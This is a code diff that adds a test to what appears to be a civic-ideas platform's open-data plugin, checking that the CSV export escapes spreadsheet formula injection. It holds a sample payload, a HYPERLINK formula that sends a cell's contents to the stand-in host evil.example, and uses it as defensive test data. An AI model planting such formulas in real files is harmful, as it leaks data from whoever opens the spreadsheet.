@@ -82,3 +82,24 @@ def test_the_exports_are_linked_from_the_site(plugin_client):
         assert f'href="{href}"' in page
     if "api.index" in app.view_functions:
         assert "/api/v1" in page
+
+
+def test_no_cell_of_the_csv_runs_as_a_formula_in_a_spreadsheet(plugin_client):
+    """OWASP CSV injection: text starting with = + - @ tab or CR gets a leading apostrophe."""
+    client, app = plugin_client(["opendata"])
+    platform = app.extensions["innoplat"]
+    attack = '=HYPERLINK("https://evil.example/?"&A1,"Klicka här")'
+    with platform.transaction() as session:
+        city = platform.city_row(session)
+        ideas.submit_idea(
+            session, city, title=attack, summary="+46 70 123 45 67; -ett förslag; =1+1"
+        )
+        ideas.submit_idea(session, city, title="@SUM(1+1)", summary="-20 grader i januari")
+    text = client.get("/opendata/ideas.csv").get_data(as_text=True)
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert [r["title"] for r in rows] == ["'" + attack, "'@SUM(1+1)"]
+    assert rows[0]["summary"] == "'+46 70 123 45 67; -ett förslag; =1+1"
+    assert rows[1]["summary"] == "'-20 grader i januari"
+    # Every text cell is quoted: a spreadsheet splitting on ";" keeps "…; =1+1" in one cell.
+    assert f'"\'{attack.replace(chr(34), chr(34) * 2)}"' in text
+    assert all(line.startswith('"') for line in text.splitlines() if line)
